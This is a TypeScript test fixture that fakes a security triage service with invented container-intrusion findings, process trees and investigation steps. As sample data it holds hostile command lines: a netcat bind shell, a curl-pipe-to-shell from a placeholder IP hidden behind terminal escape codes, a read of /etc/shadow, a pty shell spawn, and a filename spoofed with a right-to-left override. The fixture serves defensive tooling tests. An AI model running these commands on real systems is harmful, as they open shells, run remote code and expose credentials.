/** A case that never was: deterministic findings, guides, trees, with an attacker's strings among them. */
import type { Severity } from "../../src/rules/rule.ts";
import type {
  EventRow,
  FindingDetail,
  FindingRow,
  JournalRow,
  Pivot,
  StepView,
  TreeNode,
  TriageService,
  Verdict,
} from "../../src/triage/types.ts";

const START = 1_772_368_200_000_000_000n; // 2026-03-01T12:30:00Z
const SECOND = 1_000_000_000n;

const RULES: readonly (readonly [
  id: string,
  name: string,
  severity: Severity,
  risk: number,
  tactics: readonly string[],
])[] = [
  [
    "net-tool",
    "Suspicious network tool launched inside a container",
    "medium",
    47,
    ["Discovery", "Command and Control"],
  ],
  ["egress", "Egress connection from an entrypoint in a container", "high", 73, ["Execution"]],
  ["shadow", "Read of /etc/shadow by a shell", "critical", 99, ["Credential Access"]],
  ["cron", "New cron entry", "low", 21, ["Persistence"]],
];
const HOSTS = ["web-01", "web-02", "db-01", "日本-node"] as const;
const COMMANDS = [
  "nc -lvp 4444 -e /bin/sh",
  "sh -c nmap -sS 10.0.0.0/24",
  "cat /etc/shadow",
  "\x1b[2J\x1b]0;owned\x07curl http://198.51.100.7/x | sh",
  "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
  "invoice\u202Efdp.exe --quiet",
] as const;

/** 412 findings (or as many as asked), four rules, four hosts, in order of time. */
export function fakeFindings(count = 412): readonly FindingRow[] {
  return Array.from({ length: count }, (_, at): FindingRow => {
    const [ruleId, ruleName, severity, riskScore, tactics] = RULES[at % RULES.length] ?? ["", "", "low", 0, []];
    const time = START + BigInt(at) * 7n * SECOND;
    return {
      id: at + 1,
      ruleId,
      ruleName,
      severity,
      riskScore,
      tactics,
      time: at === count - 1 ? null : time,
      endTime: null,
      events: at % 4 === 1 ? 2 : 1,
      host: HOSTS[Math.floor(at / 3) % HOSTS.length] ?? null,
      container: at % 5 === 0 ? null : `app-${String(at % 7)}`,
      user: at % 2 === 0 ? "root" : "www-data",
      process: ["nc", "entrypoint.sh", "cat", "curl", "python3"][at % 5] ?? null,
      commandLine: COMMANDS[at % COMMANDS.length] ?? null,
      destination: at % 4 === 1 ? "203.0.113.9:443" : null,
      entity: `entity-${String(at % 20)}`,
      incident: at % 10 === 9 ? null : Math.floor(at / 50) + 1,
      state: "new",
      verdict: "undetermined",
      verdictBy: null,
      verdictAt: null,
      verdictWhy: null,
      marked: false,
      suppressedBy: null,
      outsideIndex: false,
      notes: 0,
      stepsDone: 0,
      steps: 4,
    };
  });
}

function event(id: number): EventRow {
  return {
    id,
    time: START + BigInt(id) * SECOND,
    source: "dump.ndjson.gz",
    line: id * 3,
    values: {
      "host.name": [HOSTS[id % HOSTS.length] ?? ""],
      "process.name": [id % 2 === 0 ? "NC" : "sh"],
      "process.command_line": [COMMANDS[id % COMMANDS.length] ?? ""],
      "process.entity_id": [`entity-${String(id % 20)}`],
      "user.name": ["root"],
    },
  };
}

function pivot(id: string, label: string, query: string | null, opens: Pivot["opens"] = "events"): Pivot {
  return {
    id,
    label,
    query,
    unavailable: query === null && opens === "events" ? "no event has dns.question.name" : null,
    from: null,
    to: null,
    opens,
    entity: "entity-3",
  };
}

function steps(finding: number): readonly StepView[] {
  const texts = [
    "Look at the container and the process: container.id, process.entity_id. Which image does it run, and who built it?",
    "Read the arguments: what do they reveal of the intent?",
    "Find what else the same user started on this host, and when.",
    "Look at the names that were resolved before.",
  ];
  return texts.map((text, at) => ({
    list: "step",
    number: at + 1,
    text,
    level: 0,
    details: at === 0 ? [{ level: 1, text: "A shell in an image without one was brought there.", code: false }] : [],
    state: "open",
    note: null,
    analyst: null,
    at: null,
    pivots:
      [
        [
          pivot(
            `${String(finding)}-children`,
            "Children of the process",
            'process where process.parent.entity_id == "entity-3"',
          ),
          pivot(`${String(finding)}-tree`, "Process tree", null, "tree"),
        ],
        [pivot(`${String(finding)}-same`, "Same command line elsewhere", 'process where process.command_line == "nc"')],
        [pivot(`${String(finding)}-user`, "Same user, 15 minutes around", 'any where user.name == "root"')],
        [pivot(`${String(finding)}-dns`, "Names resolved by the process", null)],
      ][at] ?? [],
  }));
}

export interface FakeService extends TriageService {
  /** Names of the calls that changed something, with their arguments. */
  readonly calls: string[];
  /** Number of aborted queries. */
  aborted(): number;
  settings: Map<string, string>;
}

export interface FakeOptions {
  readonly findings?: number;
  readonly readonly?: boolean;
  readonly events?: number;
  /** Queries never answer: they only end when they are cancelled. */
  readonly stuck?: boolean;
  readonly settings?: Map<string, string>;
}

/** A service in memory. Every call answers in a later turn. */
export function fakeService(options: FakeOptions = {}): FakeService {
  let rows = [...fakeFindings(options.findings)];
  const total = options.events ?? 1_000;
  const calls: string[] = [];
  const stepStates = new Map<string, StepView>();
  const undone: (() => void)[] = [];
  const redone: (() => void)[] = [];
  const journal: JournalRow[] = [];
  const settings = options.settings ?? new Map<string, string>();
  let aborted = 0;
  const act = (name: string, change: () => void, back: () => void): void => {
    change();
    calls.push(name);
    journal.unshift({
      id: journal.length + 1,
      at: "2026-03-02T09:00:00Z",
      analyst: "ada",
      action: name,
      target: null,
      detail: {},
    });
    undone.push(() => {
      back();
      redone.push(change);
    });
  };
  const stuck = (signal: AbortSignal | undefined): Promise<never> =>
    new Promise((_, reject) => {
      signal?.addEventListener("abort", () => {
        aborted += 1;
        reject(new Error("aborted"));
      });
    });
  const detailSteps = (id: number): readonly StepView[] =>
    steps(id).map((one) => stepStates.get(`${String(id)}/step/${String(one.number)}`) ?? one);
  const responses = (id: number): readonly StepView[] =>
    ["Isolate the container.", "Block the destination.", "Rebuild the image from a known good one."].map(
      (text, at) =>
        stepStates.get(`${String(id)}/response/${String(at + 1)}`) ?? {
          list: "response",
          number: at + 1,
          text,
          level: 0,
          details: [],
          state: "open",
          note: null,
          analyst: null,
          at: null,
          pivots: [],
        },
    );
  const detail = (row: FindingRow): FindingDetail => ({
    row: { ...row, stepsDone: detailSteps(row.id).filter((one) => one.state !== "open").length },
    rule: {
      id: row.ruleId,
      name: row.ruleName,
      description: "A tool for scanning or tunnelling was started inside a container, where it has no business.",
      severity: row.severity,
      riskScore: row.riskScore,
      language: "eql",
      query:
        row.events > 1
          ? 'sequence by host.id\n  [process where process.name == "entrypoint.sh"]\n  [network where true]'
          : 'process where container.id : "*" and event.type == "start" and\n  process.name : ("nc", "nmap")',
      author: "eqlite",
      license: "Apache-2.0",
      version: "1",
      path: "rules/net-tool.toml",
      hash: "ab".repeat(32),
      tags: ["container", "linux"],
      references: ["https://attack.mitre.org/techniques/T1046/"],
      attack: [
        { tacticId: "TA0007", tactic: "Discovery", techniqueId: "T1046", technique: "Network Service Discovery" },
      ],
      upstream: "1a289854-5b78-49fe-9440-8a8096b1ab50",
    },
    joinKeys: row.events > 1 ? [{ field: "host.id", value: "h-1" }] : [],
    events: Array.from({ length: row.events }, (_, at) => ({
      position: at + 1,
      stage: at + 1,
      missing: false,
      event: event(row.id + at),
      matched: [{ text: 'process.name : ("nc", "nmap")', field: "process.name", values: ["NC"] }],
    })),
    steps: detailSteps(row.id),
    responses: responses(row.id),
    falsePositives: ["Monitoring images carry such tools.", "Training containers."],
    notes: [],
    pivots: [
      pivot(`${String(row.id)}-rare`, "How rare is this command line", 'any where process.command_line == "nc"'),
    ],
  });
  const page = (from: number, limit: number) => {
    const size = Math.max(0, Math.min(limit, total - from));
    return {
      rows: Array.from({ length: size }, (_, at) => event(from + at + 1)),
      start: from,
      total: total <= 20_000 ? total : null,
      columns: ["@timestamp", "host.name", "process.name", "process.command_line", "user.name"],
    };
  };
  const node = (entity: string, name: string, children: readonly TreeNode[], focus = false): TreeNode => ({
    entity,
    name,
    executable: `/usr/bin/${name}`,
    commandLine: `${name} --flag`,
    user: "root",
    pid: "42",
    start: START,
    end: START + SECOND,
    exitCode: "0",
    startEvent: 7,
    network: focus ? 2 : 0,
    files: focus ? 1 : 0,
    other: 0,
    findings: focus ? [1] : [],
    children,
    hiddenChildren: 0,
    focus,
  });
  return {
    readonly: options.readonly ?? false,
    analyst: "ada",
    calls,
    settings,
    aborted: () => aborted,
    warm: () => undefined,
    overview: async () => ({
      casePath: "/cases/web.case",
      withheld: null,
      events: 12_345,
      untimed: 3,
      sources: [
        {
          path: "/evidence/dump.ndjson.gz",
          sha256: "ab".repeat(32),
          events: 12_345,
          rejected: 2,
          duplicates: 7,
          status: "complete",
        },
      ],
      hosts: HOSTS.map((name, at) => ({ name, events: 5_000 - at * 1_000, findings: 103 })),
      histogram: { from: START, to: START + 3_600n * SECOND, counts: [1, 5, 9, 2, 0, 0, 14, 30, 8, 1] },
      hunt: {
        id: 1,
        at: "2026-03-01T18:00:00Z",
        rules: 815,
        outcomes: { hit: 4, none: 700, blind: 100, unsupported: 11, error: 0, skipped: 0 },
      },
      tactics: [
        { id: "TA0007", name: "Discovery", findings: 103 },
        { id: "TA0002", name: "Execution", findings: 103 },
      ],
      verdicts: countVerdicts(rows),
      findings: rows.length,
      suppressed: 5,
      stepsDone: stepStates.size,
      steps: 4 * rows.length,
    }),
    findings: async () => rows,
    finding: async (id) => {
      const row = rows.find((one) => one.id === id);
      if (row === undefined) throw new Error(`no finding ${String(id)}`);
      return detail(row);
    },
    why: async (id) => {
      const row = rows.find((one) => one.id === id);
      return row === undefined ? [] : detail(row).events.map((one) => one.matched);
    },
    document: async (id) =>
      JSON.stringify(
        {
          "@timestamp": "2026-03-01T12:30:00Z",
          process: { name: "nc", pid: id, args: ["nc", "-lvp", "4444"], entity_id: "entity-3" },
          host: { name: "web-01\u202e" },
          message: "\x1b[31mred",
        },
        null,
        2,
      ),
    setVerdict: async (ids, verdict, why) => {
      const before = rows;
      act(
        `verdict ${verdict} ${ids.join(",")}${why === undefined ? "" : ` ${why}`}`,
        () => {
          rows = rows.map((row) =>
            ids.includes(row.id) ? { ...row, verdict, verdictWhy: why ?? row.verdictWhy } : row,
          );
        },
        () => {
          rows = before;
        },
      );
    },
    addNote: async (finding, text) => {
      act(
        `note ${String(finding)} ${text}`,
        () => undefined,
        () => undefined,
      );
    },
    setStep: async (finding, list, number, state, note) => {
      const key = `${String(finding)}/${list}/${String(number)}`;
      const base = (list === "step" ? detailSteps(finding) : responses(finding)).find((one) => one.number === number);
      if (base === undefined) throw new Error("no such step");
      const before = stepStates.get(key);
      act(
        `step ${key} ${state}`,
        () => stepStates.set(key, { ...base, state, note: note ?? null, analyst: "ada", at: "2026-03-02T09:00:00Z" }),
        () => (before === undefined ? stepStates.delete(key) : stepStates.set(key, before)),
      );
    },
    setMarked: async (ids, marked) => {
      calls.push(`mark ${String(marked)} ${ids.join(",")}`);
    },
    undo: async () => {
      const last = undone.pop();
      last?.();
      return last === undefined ? null : `took back: ${journal[0]?.action ?? ""}`;
    },
    redo: async () => {
      const last = redone.pop();
      last?.();
      return last === undefined ? null : `did again: ${journal[0]?.action ?? ""}`;
    },
    countPivot: async (one, signal) => {
      if (options.stuck === true) return stuck(signal);
      const counts: Readonly<Record<string, number>> = { children: 3, same: 0, user: 10_000, rare: 12 };
      const count = counts[one.id.split("-")[1] ?? ""] ?? 1;
      return { count, capped: count === 10_000 };
    },
    query: async (eql, { at, limit }, signal) => {
      if (options.stuck === true) return stuck(signal);
      if (eql.includes("wher ")) {
        const start = eql.indexOf("wher ");
        return {
          ok: false,
          problems: [{ message: "expected where", hint: "Did you mean where?", start, end: start + 4 }],
        };
      }
      const last = Math.floor((total - 1) / limit) * limit;
      const starts = { first: 0, last, time: last };
      const start = "start" in at ? at.start : starts[at.kind];
      return { ok: true, page: page(start, limit), place: at.kind === "first" ? 0 : total - 1 };
    },
    countAll: async (_eql, _options, signal) => (options.stuck === true ? stuck(signal) : total),
    findText: async (_eql, { text, beyond, backward, limit }) => {
      const found = text === "absent" ? undefined : Number(/\d+/.exec(text)?.[0] ?? "1");
      if (found === undefined) return null;
      const place = found - 1;
      calls.push(`find ${text} beyond ${String(beyond)}${backward ? " backward" : ""}`);
      return { page: page(Math.floor(place / limit) * limit, limit), place, hits: 1 };
    },
    around: async (id) => ({ ...page(Math.max(0, id - 3), 6), start: 0, total: 6 }),
    facet: async () => [
      { value: "nc", count: 120 },
      { value: "sh\x1b[31m", count: 60 },
      { value: "curl", count: 4 },
    ],
    tree: async (entity) =>
      entity === "unknown"
        ? null
        : node("entity-0", "containerd-shim", [
            node("entity-1", "entrypoint.sh", [
              node(entity, "nc", [node("entity-9", "sh", [])], true),
              node("entity-4", "sleep", []),
            ]),
          ]),
    timeline: async () => [
      { time: START, kind: "event", event: event(1), finding: null, gapNs: null, text: "process sh on web-02" },
      {
        time: START + SECOND,
        kind: "finding",
        event: null,
        finding: rows[0] ?? null,
        gapNs: null,
        text: rows[0]?.ruleName ?? "",
      },
      { time: null, kind: "gap", event: null, finding: null, gapNs: 3_600n * SECOND, text: "" },
      {
        time: START + 3_700n * SECOND,
        kind: "event",
        event: event(2),
        finding: null,
        gapNs: null,
        text: "network to 203.0.113.9",
      },
    ],
    ledger: async () => [
      {
        ruleId: "net-tool",
        name: "Suspicious network tool launched inside a container",
        outcome: "hit",
        reason: null,
        findings: 103,
        ms: 12,
      },
      {
        ruleId: "dns",
        name: "Rare name resolved",
        outcome: "blind",
        reason: "no event has dns.question.name",
        findings: 0,
        ms: 0,
      },
    ],
    hunts: async () => [
      {
        id: 1,
        startedAt: "2026-03-01T18:00:00Z",
        finishedAt: "2026-03-01T18:00:09Z",
        status: "complete",
        analyst: "ada",
        events: 12_345,
        outcomes: { hit: 4, none: 700, blind: 100, unsupported: 11, error: 0, skipped: 0 },
        fresh: 412,
        unchanged: 0,
        gone: 0,
      },
    ],
    journal: async () => journal,
    exceptions: async () => [
      {
        id: 1,
        name: "Monitoring",
        condition: 'process.name : "nc"',
        rules: ["net-tool"],
        stage: null,
        list: null,
        osTypes: [],
        comments: [],
        analyst: "ada",
        at: "2026-03-01T19:00:00Z",
        expiresAt: null,
        hides: 5,
        idle: null,
      },
    ],
    suggestExceptions: async () => [
      {
        name: "this command line on this host",
        condition: 'process.command_line == "nc -lvp 4444"',
        rules: ["net-tool"],
      },
    ],
    blastRadius: async (_condition, _rules, _signal, stage = null) =>
      stage === null
        ? { findings: 17, rules: 1, truePositives: 2, undecided: 0 }
        : { findings: stage, rules: 1, truePositives: 0, undecided: 0 },
    saveException: async (name, _condition, _rules, _expiresAt, stage = null) => {
      calls.push(`exception ${name}${stage === null ? "" : ` for stage ${String(stage)}`}`);
    },
    deleteException: async (id) => {
      calls.push(`delete exception ${String(id)}`);
    },
    complete: async (text) => (text.endsWith("proc") ? ["process", "process.name", "process.command_line"] : []),
    export: async (format, words) => {
      calls.push(`export ${format} ${words === "" ? "-" : words}`);
      return { path: words === "" ? `/cases/web.${format}` : words, findings: rows.length, leftOut: 0 };
    },
    getSetting: async (key) => settings.get(key) ?? null,
    setSetting: async (key, value) => {
      settings.set(key, value);
    },
    revision: async () => 1,
    close: async () => undefined,
  };
}

function countVerdicts(rows: readonly FindingRow[]): Record<Verdict, number> {
  const counts = { undetermined: 0, true_positive: 0, false_positive: 0, benign_positive: 0, duplicate: 0 };
  for (const row of rows) counts[row.verdict] += 1;
  return counts;
}
